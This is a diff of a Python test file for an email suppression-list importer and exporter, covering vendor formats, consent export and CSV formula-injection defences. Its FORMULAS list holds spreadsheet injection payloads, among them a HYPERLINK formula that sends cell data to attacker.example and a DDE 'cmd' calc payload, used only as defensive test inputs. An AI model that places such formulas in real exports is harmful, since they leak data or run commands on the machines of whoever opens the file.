@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import hashlib
 import io
 import json
@@ -10,14 +11,16 @@ from datetime import UTC, datetime
 
 import pytest
 
-from suppression.formats import (
-    READ_FORMATS,
+from suppression.fields import Row
+from suppression.formats import READ_FORMATS, Reading
+from suppression.model import Consent
+from suppression.textio import FormatError
+from suppression.writers import (
     WRITE_FORMATS,
     ExportRecord,
-    FormatError,
-    Row,
     WriteSummary,
-    read_rows,
+    neutralised,
+    write_consents,
     write_records,
 )
 
@@ -104,7 +107,13 @@ SES_CLI = b"""{
 
 
 def rows(data: bytes, fmt: str = "auto", source: str = "list.txt") -> list[Row]:
-    return list(read_rows(io.BytesIO(data), fmt, source))
+    return list(Reading(io.BytesIO(data), fmt, source))
+
+
+def detected(data: bytes, fmt: str = "auto") -> str:
+    reading = Reading(io.BytesIO(data), fmt, "list.txt")
+    list(reading)
+    return reading.format
 
 
 def values(data: bytes, fmt: str = "auto") -> list[tuple[int, str, str]]:
@@ -132,9 +141,8 @@ def test_csv_header_gives_address_reason_time_and_extra() -> None:
         "unsubscribed",
         T0,
     )
-    assert jane.extra["name"] == "Doe, Jane"
-    assert jane.extra["source"] == "web-form"
-    assert jane.extra["policy_version"] == "v2"
+    assert jane.extra == {"name": "Doe, Jane", "policy_version": "v2"}
+    assert jane.source == "web-form"
     assert (rick.reason, rick.created) == ("complained", T0)
 
 
@@ -192,12 +200,8 @@ def test_jsonl_objects_and_strings() -> None:
         "complained",
         T0,
     )
-    assert jane.extra == {
-        "reason": "complaint",
-        "created_at": "1700000000",
-        "source": "shop",
-        "consent": '{"checkbox": true}',
-    }
+    assert jane.extra == {"consent": '{"checkbox": true}'}
+    assert jane.source == "shop"
     assert (rick.line, rick.value, rick.reason, rick.extra) == (3, "rick@example.com", None, {})
 
 
@@ -246,10 +250,10 @@ def test_sendgrid_list_follows_from_columns(
     assert rows(data, "sendgrid")[0].created == T0
 
 
-def test_sendgrid_bounce_keeps_the_smtp_reason_as_extra() -> None:
+def test_sendgrid_bounce_keeps_the_smtp_status_and_text() -> None:
     (row,) = rows(SENDGRID_BOUNCES, "sendgrid")
-    assert row.extra["status"] == "5.1.1"
-    assert row.extra["reason"].startswith("550 5.1.1")
+    assert row.status == "5.1.1"
+    assert (row.diagnostic or "").startswith("550 5.1.1")
 
 
 def test_mailchimp_unsubscribed_export() -> None:
@@ -271,9 +275,10 @@ def test_mailchimp_cleaned_export_is_bounced() -> None:
     ]
 
 
-def test_mailchimp_subscribed_export_carries_opt_in_time() -> None:
+def test_mailchimp_subscribed_export_is_marked_subscribed() -> None:
     (row,) = rows(MAILCHIMP_SUBSCRIBED, "mailchimp")
     assert (row.reason, row.created, row.extra["optin_ip"]) == (None, T0, "203.0.113.9")
+    assert row.status == "subscribed", "the importer refuses these rows"
 
 
 @pytest.mark.parametrize("data", [SES_CSV, SES_CSV_HEADER + b"recipient2@example.com,COMPLAINT\n"])
@@ -350,11 +355,14 @@ def test_auto_detection_matches_the_explicit_format(data: bytes, fmt: str) -> No
     assert rows(data, "auto") == rows(data, fmt)
 
 
-def test_auto_leaves_generic_csv_with_reason_to_the_csv_reader() -> None:
-    assert reasons(SENDGRID_INVALID) == [("nope@example", None)]
-    assert reasons(b"email,created,reason\njane@example.com,1700000000,spam\n") == [
-        ("jane@example.com", "complained")
-    ]
+def test_sendgrid_invalid_emails_are_told_from_a_generic_csv() -> None:
+    assert reasons(SENDGRID_INVALID) == [("nope@example", "invalid")]
+    assert detected(SENDGRID_INVALID) == "sendgrid"
+    generic = b"email,created,reason\njane@example.com,1700000000,spam\n"
+    assert reasons(generic) == [("jane@example.com", "complained")]
+    dated = b"email,created,reason\njane@example.com,2024-01-01,moved away\n"
+    assert reasons(dated) == [("jane@example.com", None)]
+    assert detected(dated) == "csv"
 
 
 @pytest.mark.parametrize(
@@ -402,15 +410,15 @@ def test_errors_name_source_and_line(data: bytes, fmt: str, line: int, message: 
 
 
 def test_format_error_comes_while_iterating() -> None:
-    found = read_rows(io.BytesIO(b"\x00"), "plain", "x")
+    found = Reading(io.BytesIO(b"\x00"), "plain", "x")
     with pytest.raises(FormatError):
-        next(found)
+        next(iter(found))
 
 
 @pytest.mark.parametrize("fmt", ["xml", "", "CSV"])
 def test_unknown_format_names_the_choices(fmt: str) -> None:
     with pytest.raises(ValueError, match="auto, csv, jsonl, plain, sha256, md5, sendgrid"):
-        read_rows(io.BytesIO(b""), fmt, "x")
+        Reading(io.BytesIO(b""), fmt, "x")
     with pytest.raises(ValueError, match="csv, jsonl, sha256, md5"):
         write_records([], fmt, io.StringIO())
 
@@ -454,10 +462,12 @@ def written(fmt: str, records: list[ExportRecord] = RECORDS) -> tuple[str, Write
 def test_csv_writer() -> None:
     text, summary = written("csv")
     assert summary == WriteSummary(4, 0)
-    assert text.splitlines()[:3] == [
-        "email,sha256,scope,reason,source,created",
-        f"jane@example.com,{SHA},global,unsubscribed,web,2023-11-14T22:13:20Z",
-        f",{RECORDS[1].sha256},topic:news,complained,import,2024-01-02T03:04:05.600000Z",
+    assert text.splitlines() == [
+        "email,sha256,scope,reason,source,created,evidence",
+        f"jane@example.com,{SHA},global,unsubscribed,web,2023-11-14T22:13:20Z,",
+        f",{RECORDS[1].sha256},topic:news,complained,import,2024-01-02T03:04:05.600000Z,",
+        f",{MD5},global,imported,partner,2023-11-14T22:13:20Z,",
+        f"'@example.net,{RECORDS[3].sha256},global,manual,cli,2023-11-14T22:13:20Z,",
     ]
 
 
@@ -477,7 +487,8 @@ def test_csv_round_trip() -> None:
         (MD5, "md5", "imported", T0),
         ("@example.net", "address", "manual", T0),
     ]
-    assert read[1].extra["scope"] == "topic:news"
+    assert read[1].scope == "topic:news"
+    assert [row.source for row in read] == ["web", "import", "partner", "cli"]
     assert rows(text.encode()) == read
 
 
@@ -491,9 +502,10 @@ def test_jsonl_writer_and_round_trip() -> None:
         "reason": "complained",
         "source": "import",
         "created": "2024-01-02T03:04:05.600000Z",
+        "evidence": None,
     }
-    assert [row.value for row in rows(text.encode(), "jsonl")] == [
-        row.value for row in rows(written("csv")[0].encode(), "csv")
+    assert rows(text.encode(), "jsonl") == [
+        row._replace(line=row.line - 1) for row in rows(written("csv")[0].encode(), "csv")
     ]
 
 
@@ -513,7 +525,267 @@ def test_md5_writer_hashes_known_addresses_and_keeps_md5_records() -> None:
 
 def test_naive_times_are_taken_as_utc() -> None:
     naive = ExportRecord(SHA, None, "global", "manual", "cli", datetime(2023, 11, 14, 22, 13, 20))
-    assert written("csv", [naive])[0].endswith(",2023-11-14T22:13:20Z\n")
+    assert written("csv", [naive])[0].endswith(",2023-11-14T22:13:20Z,\r\n")
+
+
+# a cell for every character a spreadsheet may take as the start of a formula
+FORMULAS = [
+    '=HYPERLINK("http://attacker.example/?"&A1)',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "|calc",
+    "'=already quoted",
+    "''",
+    "'plain",
+]
+
+
+@pytest.mark.parametrize("cell", FORMULAS)
+def test_neutralised_cells_start_with_a_quote_and_read_back(cell: str) -> None:
+    assert neutralised(cell) == "'" + cell
+    assert neutralised("plain=text") == "plain=text"
+    text = io.StringIO()
+    record = ExportRecord(SHA, "jane@example.com", "global", "manual", cell, T0)
+    write_records([record], "csv", text)
+    line = text.getvalue().splitlines()[1]
+    assert not line.startswith(tuple("=+-@|\t\r")), line
+    written_cell = next(csv.reader([line]))[4]
+    assert written_cell[0] == "'"
+    (row,) = rows(text.getvalue().encode(), "csv")
+    assert row.source == cell.strip()  # the reader trims cells, then undoes the quote
+
+
+def test_every_csv_cell_of_an_export_is_neutralised() -> None:
+    """Addresses a forged From could plant, a domain entry, a source and evidence."""
+    hostile = ["=cmd@example.com", "+x@example.com", "-x@example.com", "|x@example.com"]
+    records = [ExportRecord(SHA, a, "global", "manual", "-web", T0) for a in hostile]
+    records.append(ExportRecord(SHA, "@example.net", "global", "manual", "cli", T0, "domain"))
+    records.append(
+        ExportRecord(SHA, "a@example.com", "global", "manual", "cli", T0, evidence='=1+{"a":1}')
+    )
+    out = io.StringIO()
+    write_records(records, "csv", out)
+    consents = io.StringIO()
+    consent = Consent(SHA, "news", True, "=web", T0, "+2", "@x@example.com", '-{"ip": 1}')
+    write_consents([consent], "csv", consents)
+    for text in (out.getvalue(), consents.getvalue()):
+        for fields in list(csv.reader(io.StringIO(text)))[1:]:
+            assert not [f for f in fields if f[:1] in ("=", "+", "-", "@", "|", "\t", "\r")]
+    assert [row.value for row in rows(out.getvalue().encode(), "csv")][:5] == [
+        *hostile,
+        "@example.net",
+    ]
+
+
+def test_consent_writer_columns_and_round_trip() -> None:
+    records = [
+        Consent(SHA, "news", True, "web", T0, "3", "jane@example.com", '{"ip": "192.0.2.1"}'),
+        Consent(SHA, "partner-offers", False, "cli", T0),
+    ]
+    for fmt in ("csv", "jsonl"):
+        out = io.StringIO()
+        assert write_consents(records, fmt, out) == WriteSummary(2, 0)
+        read = rows(out.getvalue().encode(), fmt)
+        assert [(r.value, r.kind, r.created, r.source, r.evidence) for r in read] == [
+            ("jane@example.com", "address", T0, "web", '{"ip": "192.0.2.1"}'),
+            (SHA, "sha256", T0, "cli", None),
+        ]
+        assert [dict(r.extra) for r in read] == [
+            {"purpose": "news", "state": "granted", "policy_version": "3"},
+            {"purpose": "partner-offers", "state": "revoked"},
+        ]
+
+
+# Native formats of Mailgun, Postmark and SES text output ------------------------------
+
+MAILGUN_BOUNCES = (
+    b"address,code,error,created_at\n"
+    b'gone@example.com,550,"5.1.1 The email account does not exist",'
+    b'"Fri, 21 Oct 2011 11:02:55 GMT"\n'
+    b'blocked@example.com,554,"5.7.1 Service unavailable; client host blocked using Spamhaus",'
+    b'"Fri, 21 Oct 2011 11:02:55 GMT"\n'
+)
+MAILGUN_UNSUBSCRIBES = b'address,tags,created_at\nu@example.com,*,"Fri, 18 Oct 2024 18:28:14 UTC"\n'
+MAILGUN_COMPLAINTS = b'address,created_at\nc@example.com,"Fri, 21 Oct 2011 11:02:55 GMT"\n'
+MAILGUN_JSON = json.dumps(
+    {
+        "items": [
+            {
+                "address": "gone@example.com",
+                "code": "550",
+                "error": "No such mailbox",
+                "created_at": "Fri, 21 Oct 2011 11:02:55 GMT",
+            },
+            {
+                "address": "u@example.com",
+                "tags": ["*"],
+                "created_at": "Fri, 21 Oct 2011 11:02:55 UTC",
+            },
+            {"address": "c@example.com", "created_at": "Fri, 21 Oct 2011 11:02:55 GMT"},
+        ],
+        "paging": {"first": "https://api.mailgun.net/v3/x/bounces?page=first", "next": "n"},
+    },
+    indent=2,
+).encode()
+T1 = datetime(2011, 10, 21, 11, 2, 55, tzinfo=UTC)
+POSTMARK_JSON = json.dumps(
+    {
+        "Suppressions": [
+            {
+                "EmailAddress": "address@wildbit.com",
+                "SuppressionReason": "ManualSuppression",
+                "Origin": "Recipient",
+                "CreatedAt": "2019-12-17T08:58:33-05:00",
+            },
+            {
+                "EmailAddress": "bounce.address@wildbit.com",
+                "SuppressionReason": "HardBounce",
+                "Origin": "Recipient",
+                "CreatedAt": "2019-12-17T08:58:33-05:00",
+            },
+            {
+                "EmailAddress": "spam.complaint.address@wildbit.com",
+                "SuppressionReason": "SpamComplaint",
+                "Origin": "Recipient",
+                "CreatedAt": "2019-12-17T08:58:33-05:00",
+            },
+            {
+                "EmailAddress": "by.us@wildbit.com",
+                "SuppressionReason": "ManualSuppression",
+                "Origin": "Customer",
+                "CreatedAt": "2019-12-17T08:58:33-05:00",
+            },
+        ]
+    },
+    indent=2,
+).encode()
+POSTMARK_CSV = (
+    b"Email Address,Suppression Reason,Origin,Created At\n"
+    b"address@wildbit.com,ManualSuppression,Recipient,2019-12-17T08:58:33-05:00\n"
+    b"bounce.address@wildbit.com,HardBounce,Recipient,2019-12-17T08:58:33-05:00\n"
+)
+T2 = datetime(2019, 12, 17, 13, 58, 33, tzinfo=UTC)
+SES_TEXT = (
+    b"AAAAexampleNextToken\n"
+    b"SUPPRESSEDDESTINATIONSUMMARIES\trecipient1@example.com\t"
+    b"2023-11-14T22:13:20.000000+00:00\tBOUNCE\n"
+    b"SUPPRESSEDDESTINATIONSUMMARIES\trecipient2@example.com\t"
+    b"2023-11-14T22:13:20+00:00\tCOMPLAINT\n"
+)
+
+
+@pytest.mark.parametrize(
+    ("data", "fmt", "shown", "expected"),
+    [
+        (
+            MAILGUN_BOUNCES,
+            "mailgun",
+            "mailgun",
+            [("gone@example.com", "bounced", T1), ("blocked@example.com", "bounced", T1)],
+        ),
+        (
+            MAILGUN_UNSUBSCRIBES,
+            "mailgun",
+            "mailgun",
+            [("u@example.com", "unsubscribed", datetime(2024, 10, 18, 18, 28, 14, tzinfo=UTC))],
+        ),
+        (MAILGUN_COMPLAINTS, "mailgun", "mailgun", [("c@example.com", "complained", T1)]),
+        (
+            MAILGUN_JSON,
+            "mailgun",
+            "mailgun (json)",
+            [
+                ("gone@example.com", "bounced", T1),
+                ("u@example.com", "unsubscribed", T1),
+                ("c@example.com", "complained", T1),
+            ],
+        ),
+        (
+            POSTMARK_JSON,
+            "postmark",
+            "postmark (json)",
+            [
+                ("address@wildbit.com", "unsubscribed", T2),
+                ("bounce.address@wildbit.com", "bounced", T2),
+                ("spam.complaint.address@wildbit.com", "complained", T2),
+                ("by.us@wildbit.com", "manual", T2),
+            ],
+        ),
+        (
+            POSTMARK_CSV,
+            "postmark",
+            "postmark",
+            [
+                ("address@wildbit.com", "unsubscribed", T2),
+                ("bounce.address@wildbit.com", "bounced", T2),
+            ],
+        ),
+        (
+            SES_TEXT,
+            "ses",
+            "ses (text)",
+            [
+                ("recipient1@example.com", "bounced", T0),
+                ("recipient2@example.com", "complained", T0),
+            ],
+        ),
+    ],
+)
+def test_native_vendor_formats(
+    data: bytes, fmt: str, shown: str, expected: list[tuple[str, str, datetime]]
+) -> None:
+    for asked in (fmt, "auto"):
+        assert [(r.value, r.reason, r.created) for r in rows(data, asked)] == expected
+        assert detected(data, asked) == shown
+
+
+def test_mailgun_bounces_carry_code_and_error_for_the_policy_check() -> None:
+    gone, blocked = rows(MAILGUN_BOUNCES)
+    assert (gone.status, gone.diagnostic) == ("550", "5.1.1 The email account does not exist")
+    assert blocked.diagnostic is not None
+    assert "Spamhaus" in blocked.diagnostic
+
+
+def test_address_and_created_at_alone_are_mailgun_only_with_its_time() -> None:
+    generic = b"address,created_at\nc@example.com,2024-01-01T00:00:00Z\n"
+    assert detected(generic) == "csv"
+    assert [r.reason for r in rows(generic)] == [None]
+    assert detected(MAILGUN_COMPLAINTS) == "mailgun"
+
+
+@pytest.mark.parametrize(
+    ("data", "fmt", "line", "message"),
+    [
+        (b"address,foo\na@example.com,1\n", "mailgun", 1, "not a Mailgun export"),
+        (b"Email,Reason\na@example.com,x\n", "postmark", 1, "not a Postmark export"),
+        (b'{"items": 3}', "mailgun", 1, "expected one of ["),
+        (b"SUPPRESSEDDESTINATIONSUMMARIES\ta@example.com\tBOUNCE\n", "ses", 1, "not SES text"),
+        (b"email,created\na@example.com,yesterday\n", "csv", 2, "'yesterday' is not a time"),
+        (b'{"email": "a@example.com", "created": "soon"}\n', "jsonl", 1, "is not a time"),
+    ],
+)
+def test_vendor_and_time_errors(data: bytes, fmt: str, line: int, message: str) -> None:
+    with pytest.raises(FormatError) as caught:
+        rows(data, fmt)
+    assert (caught.value.line, message in caught.value.message) == (line, True), caught.value
+
+
+@pytest.mark.parametrize(
+    ("data", "fmt"),
+    [
+        (b"[" * 100_000 + b"]" * 100_000 + b"\n", "jsonl"),
+        (b'{"email": ' + b"[" * 100_000 + b"]" * 100_000 + b"}\n", "jsonl"),
+        (b"[" * 100_000 + b"]" * 100_000 + b"\n", "auto"),
+        (b'{"SuppressedDestinationSummaries": [' + b"[" * 100_000, "ses"),
+        (b'{"items": [' + b'{"a": [' * 50_000 + b"]}" * 50_000 + b"]}", "mailgun"),
+    ],
+)
+def test_deeply_nested_json_is_a_clear_error(data: bytes, fmt: str) -> None:
+    with pytest.raises(FormatError, match=r"^list\.txt:1: JSON nested too deeply$"):
+        rows(data, fmt)
 
 
 # Memory ---------------------------------------------------------------------
@@ -543,7 +815,7 @@ def test_reading_two_million_lines_keeps_memory_flat() -> None:
     tracemalloc.start()
     try:
         last = None
-        for last in read_rows(io.BufferedReader(_Lines(200)), "auto", "stdin"):  # noqa: B007
+        for last in Reading(io.BufferedReader(_Lines(200)), "auto", "stdin"):  # noqa: B007
             pass
         _, peak = tracemalloc.get_traced_memory()
     finally:
